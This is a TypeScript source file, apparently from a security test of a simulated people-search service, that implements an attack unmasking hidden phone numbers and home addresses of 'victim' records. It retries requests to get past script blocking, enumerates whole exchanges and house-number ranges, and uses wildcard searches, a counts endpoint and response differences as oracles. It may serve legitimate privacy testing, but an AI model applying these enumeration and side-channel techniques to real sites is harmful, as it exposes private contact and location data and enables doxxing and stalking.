import type { AddressSearchAnswer, PhoneSearchAnswer } from '../../shared/contract/finding/reverse-search.ts';
import type { PersonDetails } from '../../shared/contract/person/person.ts';
import type { LineType } from '../../shared/contract/person/phone.ts';
import type { Attacker } from './attacker.ts';

/** What the free page of a person says of a number that it hides. */
export interface HiddenNumber {
  readonly areaCode: string;
  readonly lineType: LineType;
}

/** What the free page of a person says of the home whose number it hides. */
export interface HiddenHouse {
  readonly street: string;
  readonly location: string;
}

/** Somebody to find out about: what anybody may know, as a start. */
export interface Victim {
  readonly id: string;
  readonly numbers: readonly HiddenNumber[];
  readonly houses: readonly HiddenHouse[];
}

/** What is left after asking: the candidates that nothing rules out, the likeliest first. */
export interface Guess {
  readonly candidates: readonly string[];
}

/** Reads a person's free page; null if it is not to be had anymore. */
export async function readVictim(attacker: Attacker, id: string): Promise<Victim | null> {
  const path = `/api/v4/person/details?personId=${id}`;
  // A script is refused where a page is not.
  const [first, second] = [await attacker.ask(path), await attacker.ask(path)];
  const answer = first?.status === 200 ? first : second;
  if (answer?.status !== 200) return null;
  const { mobilePhones, landlinePhones, otherPhones, addresses } = answer.json<PersonDetails>().results;
  const numbers = [...mobilePhones, ...landlinePhones, ...otherPhones].flatMap((phone) =>
    phone.type === 'masked' ? [{ areaCode: phone.npa, lineType: phone.linetype }] : [],
  );
  const houses = addresses.flatMap((address) =>
    address.type === 'partial'
      ? [{ street: address.line1WithoutNumber, location: `${address.city}, ${address.stateCode}` }]
      : [],
  );
  const unique = new Map(numbers.map((number) => [`${number.areaCode} ${number.lineType}`, number]));
  return { id, numbers: [...unique.values()], houses };
}

/** The only exchange of an invented number (docs/population.md): an attacker knows it, too. */
const EXCHANGE = '555';
const LINES = Array.from({ length: 10_000 }, (_, line) => String(line).padStart(4, '0'));

/** What somebody knows of the numbers of one area code. */
export class AreaNotes {
  readonly #areaCode: string;
  /** of the numbers asked about: the kind of line of those that may be somebody's hidden number */
  readonly #told = new Map<string, LineType | null>();
  /** how many a wildcard said begin with these seven digits, by the fourth digit from behind */
  readonly #counts = new Map<string, number>();
  /** numbers that a wildcard lists */
  readonly #listed = new Set<string>();
  /** everything that was answered about a number on record */
  readonly #texts = new Map<string, string>();

  constructor(areaCode: string) {
    this.#areaCode = areaCode;
  }

  /** Asks wildcards of several shapes: where numbers are, and whatever else they give away. */
  async askWildcards(attacker: Attacker): Promise<void> {
    const beginnings = [...'0123456789'].map((digit) => `${this.#areaCode}${EXCHANGE}${digit}XXX`);
    const ends = ['XXX1', 'X1X2', '12XX', '1X34', 'XX12'].map((shape) => `${this.#areaCode}${EXCHANGE}${shape}`);
    const others = [`X${this.#areaCode.slice(1)}5551234`, `${this.#areaCode}X551234`, `${this.#areaCode}55X12X4`];
    for (const shape of [...beginnings, ...ends, ...others]) {
      const answer = await attacker.ask(`/api/search/phone?phone=1${shape}`);
      if (answer?.status !== 200) continue;
      const { otherNumbers, numbers } = answer.json<PhoneSearchAnswer>();
      if (shape.endsWith('XXX')) this.#counts.set(shape.charAt(6), otherNumbers);
      for (const { phone } of numbers) if (phone.startsWith(`1${this.#areaCode}`)) this.#listed.add(phone.slice(1));
    }
  }

  /** Asks about whole numbers, where most are first, until this many were answered or the budget is used up. */
  async askNumbers(attacker: Attacker, most: number): Promise<void> {
    let answered = 0;
    for (const number of this.#listed) if (await this.#askNumber(attacker, number)) answered += 1;
    const digits = [...'0123456789'].toSorted((a, b) => (this.#counts.get(b) ?? 0) - (this.#counts.get(a) ?? 0));
    for (const digit of digits) {
      for (const line of LINES.filter((one) => one.startsWith(digit))) {
        if (answered >= most) return;
        const number = `${this.#areaCode}${EXCHANGE}${line}`;
        if (this.#told.has(number)) continue;
        if (!(await this.#askNumber(attacker, number))) break;
        answered += 1;
      }
    }
  }

  /** Whether it was answered. */
  async #askNumber(attacker: Attacker, number: string): Promise<boolean> {
    const answer = await attacker.ask(`/api/search/phone?phone=1${number}`);
    if (answer === null) return false;
    const { isOnRecord, isListed, lineType } = answer.json<PhoneSearchAnswer>();
    this.#told.set(number, isOnRecord && !isListed ? lineType : null);
    // A landline of a directory is nobody's hidden number.
    if (isListed) this.#listed.delete(number);
    if (!isOnRecord) return true;
    // Counts of whoever has it would tell whose it is.
    const counts = await attacker.ask(`/api/funnel/counts?source=phone&id=1${number}`);
    this.#texts.set(number, `${answer.text}\n${counts?.text ?? ''}`);
    return true;
  }

  /**
   * The numbers that may be a person's hidden one: those whose answer names them, or those on record with its kind of
   * line, then those that a wildcard listed, then those of which nothing is known. One that is not on record is ruled out only if others of its kind are.
   */
  guess({ lineType }: HiddenNumber, personId: string): Guess {
    const all = LINES.map((line) => `${this.#areaCode}${EXCHANGE}${line}`);
    const hits = all.filter((number) => this.#told.get(number) === lineType);
    const named = hits.filter((number) => this.#texts.get(number)?.includes(personId) === true);
    if (named.length > 0) return { candidates: named };
    const hinted = [...this.#listed].filter(
      (number) => !hits.includes(number) && (this.#told.get(number) ?? null) === null,
    );
    const open = all.filter((number) => !this.#told.has(number) && !this.#listed.has(number));
    const silent = hits.length > 0 ? [] : all.filter((number) => this.#told.get(number) === null);
    return { candidates: [...new Set([...hits, ...hinted, ...open, ...silent])] };
  }
}

/** House numbers that somebody tries: any house of the country has one of a few thousand. */
const TRIED = Array.from({ length: 9_999 }, (_, at) => String(at + 1));

/**
 * Asks about a street and houses on it, and keeps the house numbers whose answer differs from what most get, or else
 * all; and those of which any answer heard so far says the number with the street.
 */
export async function guessHouse(attacker: Attacker, { street, location }: HiddenHouse, most: number): Promise<Guess> {
  const answers = new Map<string, string>();
  const ask = async (typed: string): Promise<string | null> => {
    const answer = await attacker.ask(`/api/search/address?${new URLSearchParams({ street: typed, location })}`);
    if (answer === null) return null;
    if (answer.status !== 200) return String(answer.status);
    const { house, ...told } = answer.json<AddressSearchAnswer>();
    return JSON.stringify({ hasHouse: house !== null, ...told });
  };
  const alone = await ask(street);
  for (let at = 0; at < most; at += 1) {
    // Spread over the numbers that streets have: 1 to 9,999, near ones first.
    const number = TRIED[(at * 37) % 2_000] ?? '1';
    const text = await ask(`${number} ${street}`);
    if (text === null) break;
    answers.set(number, text);
  }
  const different = [...answers].filter(([, text]) => text !== alone).map(([number]) => number);
  const said = attacker.heard.flatMap((text) => [
    ...text.matchAll(new RegExp(`"(\\d+[A-Z]?) ${escaped(street)}`, 'g')),
  ]);
  const candidates = [...said.map(([, number = '']) => number), ...different];
  return { candidates: candidates.length > 0 ? [...new Set(candidates)] : TRIED };
}

const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
